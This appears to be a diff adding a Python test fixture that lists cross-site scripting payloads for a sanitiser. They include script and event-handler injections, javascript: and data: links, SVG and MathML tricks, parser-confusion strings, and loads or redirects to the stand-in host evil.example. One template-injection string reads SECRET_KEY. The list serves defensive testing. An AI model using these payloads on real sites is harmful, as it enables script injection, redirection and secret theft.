@@ -1,0 +1,73 @@
+"""Bodies that try to run something, to fetch something or to break out of the page.
+
+Each that runs calls `run()` or sets `window.ran`; each that fetches asks evil.example.
+"""
+
+BODIES = [
+    # Plain attempts
+    "<script>run()</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>run()</scr</script>ipt>",
+    "<script\n>run()</script\n>",
+    '<img src=x onerror="run()">',
+    "<img src=x:x onerror=run()//",
+    '<b onmouseover="run()" style="position:fixed;inset:0">cover</b>',
+    "<details open ontoggle=run()><summary>x</summary></details>",
+    '<a href="#" onclick="run()" autofocus onfocus="run()" tabindex=1>x</a>',
+    "<body onload=run()><html onload=run()>",
+    "<input autofocus onfocus=run()><select autofocus onfocus=run()>",
+    "<video><source onerror=run()></video><audio src=x onerror=run()>",
+    "<marquee onstart=run()>x</marquee>",
+    # Addresses
+    "[x](javascript:run())",
+    "[x](JaVaScRiPt:run())",
+    "[x](java\tscript:run())",
+    "[x](&#106;avascript:run())",
+    "[x](javascript&colon;run())",
+    "[x](vbscript:run())",
+    "[x](data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==)",
+    "![x](javascript:run())",
+    "<javascript:run()>",
+    '<a href="java&#x0A;script:run()">x</a>',
+    '<a href=" javascript:run()">x</a>',
+    '<a href="\x01javascript:run()">x</a>',
+    '[x](https://example.org/"onmouseover="run())',
+    "[x][y]\n\n[y]: javascript:run() 'title\" onclick=\"run()'",
+    '[x](https://example.org "a" onclick="run()")',
+    # Other languages inside HTML
+    "<svg onload=run()><animate onbegin=run() attributeName=x dur=1s></svg>",
+    "<svg><a xlink:href='javascript:run()'><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=run()>#x'/></svg>",
+    "<math><maction actiontype='statusline#x' xlink:href='javascript:run()'>x</maction></math>",
+    "<iframe src='javascript:parent.run()'></iframe><iframe srcdoc='<script>run()</script>'>",
+    "<object data='data:text/html,<script>run()</script>'></object><embed src='//evil.example'>",
+    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href='https://evil.example/'>",
+    "<form action='https://evil.example/'><input name=q><button formaction='javascript:run()'>x",
+    "<isindex action=javascript:run() type=image>",
+    # Parsers that disagree
+    "<noscript><p title='</noscript><img src=x onerror=run()>'></noscript>",
+    "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=1 onerror=run()&gt;'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=run()>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
+    "<svg><p><style><g title='</style><img src=x onerror=run()>'>",
+    "<title><a title='</title><img src=x onerror=run()>'>",
+    "<textarea></textarea><img src=x onerror=run()></textarea>",
+    "<template><script>run()</script></template>",
+    "<!--><img src=x onerror=run()>-->",
+    "<![CDATA[><script>run()</script>]]>",
+    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>run()</script>",
+    "<a title='\"><img src=x onerror=run()>'>x</a>",
+    "`<img src=x onerror=run()>`\n\n    <script>run()</script>",
+    '```"onload=run() x="\n</code></pre><script>run()</script>\n```',
+    # Names that would stand in the way of the page's own
+    "<a id=show-claims>x</a><a id=main>y</a><a id=passage-1>z</a><a id=note-1>n</a>",
+    "<a id=body>x</a><a name=localStorage>y</a><a id=documentElement>z</a>",
+    "<mark id='passage-1' class='factual' data-claim='1'>x</mark>",
+    "<a class='note-link factual' href='#note-1'>x</a>",
+    "</div></main></body></html><h1>Elsewhere</h1>",
+    "{% load admin %}{{ request.user }}{{ settings.SECRET_KEY }}",
+]
